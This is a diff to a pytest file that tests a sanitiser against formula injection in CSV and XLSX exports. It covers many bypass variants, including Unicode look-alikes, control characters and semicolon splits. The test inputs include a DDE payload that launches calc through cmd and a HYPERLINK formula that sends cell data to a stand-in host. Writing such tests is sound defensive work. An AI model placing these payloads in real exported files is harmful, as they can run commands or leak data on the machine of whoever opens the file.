@@ -8,7 +8,7 @@ import json
 import openpyxl
 import pytest
 
-from consult.exports.writers import Table, neutralise, write_table
+from consult.exports.writers import Table, csv_text, neutralise, neutralise_cell, write_table
 
 
 @pytest.mark.parametrize(
@@ -17,16 +17,77 @@ from consult.exports.writers import Table, neutralise, write_table
         ("=1+1", "'=1+1"),
         ("+33", "'+33"),
         ("-x", "'-x"),
-        ("@here", "'@here"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
         ("\tx", "'\tx"),
         ("\rx", "'\rx"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r'=1+1"),  # the carriage return may also begin a cell
+        ("\n-1", "'\n'-1"),
+        (" =1+1", "' =1+1"),
+        ("\u3000=1+1", "'\u3000=1+1"),
+        ("\x00=1+1", "'\x00=1+1"),
+        ("\x85=1+1", "'\x85=1+1"),
+        ("\u200b=1+1", "'\u200b=1+1"),
+        ("\ufeff=1+1", "'\ufeff=1+1"),
+        ("\uff1d1+1", "'\uff1d1+1"),  # ＝
+        ("\uff0b1", "'\uff0b1"),  # ＋
+        ("\uff0d1", "'\uff0d1"),  # －
+        ("\uff20SUM(1)", "'\uff20SUM(1)"),  # ＠
+        ("\u22121", "'\u22121"),  # − minus sign
+        (
+            '=HYPERLINK("http://x.example/?"&A1,"clic")',
+            '\'=HYPERLINK("http://x.example/?"&A1,"clic")',
+        ),
+        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+        # Split on ; by French and Spanish spreadsheet settings: each piece is a cell there.
+        ("ok;=1+1", "ok;'=1+1"),
+        ("ok; =1+1;+2", "ok;' =1+1;'+2"),
+        ("ok;fine", "ok;fine"),
+        (";@SUM(1)", ";'@SUM(1)"),
+        # A line break begins a cell once a spreadsheet lost track of the quotes.
+        ("line\n=1+1", "line\n'=1+1"),
+        ("line\r\n-1", "line\r\n'-1"),
+        ("line\r=1", "line\r'=1"),
+        ("=1;=2", "'=1;'=2"),
         ("a=b", "a=b"),
+        ("a-b; c+d", "a-b; c+d"),
+        ("e-mail: x@example.org", "e-mail: x@example.org"),
         ("", ""),
         ("'quoted", "'quoted"),
+        ("  indented text", "  indented text"),
     ],
 )
 def test_neutralise(text, safe):
     assert neutralise(text) == safe
+    assert neutralise(safe) == safe  # idempotent: a neutralised text stays as it is
+
+
+@pytest.mark.parametrize(
+    ("value", "is_number", "safe"),
+    [("-5", True, "-5"), ("-5.5", True, "-5.5"), ("-5", False, "'-5"), ("-5+1", True, "'-5+1")],
+)
+def test_a_plain_number_in_a_numeric_column_stays(value, is_number, safe):
+    assert neutralise_cell(value, is_number) == safe
+
+
+def test_csv_quotes_every_text_field_so_that_semicolons_stay_inside(tmp_path):
+    table = Table(
+        columns=["n", "text"],
+        rows=[[1, "un; deux, trois"]],
+        codebook_header=["column"],
+        codebook=[],
+        numeric=frozenset({0}),
+    )
+    write_table("csv", table, tmp_path / "t.csv")
+    lines = (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()
+    assert lines == ['"n","text"', '1,"un; deux, trois"']
+    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as handle:
+        assert list(csv.reader(handle, delimiter=";"))[1][0] == '1,"un'  # a ; reader splits
+
+
+def test_csv_text_is_the_same_writer():
+    text = csv_text(["a", "b"], [[1, "=1+1"], [2, None]])
+    assert text == '\ufeff"a","b"\r\n1,"\'=1+1"\r\n2,""\r\n'
 
 
 def _plain_table() -> Table:
@@ -57,7 +118,9 @@ def test_any_table_is_written_safely_in_every_format(tmp_path):
         elif fmt == "xlsx":
             book = openpyxl.load_workbook(path)
             sheet = book["things"]
-            assert sheet["C2"].value == "'=cmd|' /C calc'!A0" and sheet["C2"].data_type == "s"
+            # A string cell is never evaluated: the exact text, no apostrophe.
+            assert sheet["C2"].value == "=cmd|' /C calc'!A0" and sheet["C2"].data_type == "s"
+            assert book["codebook"]["B2"].value == "=not a formula either"
             assert sheet["A2"].value == 1 and sheet["A2"].data_type == "n"
             assert "codebook" in book.sheetnames
         else:
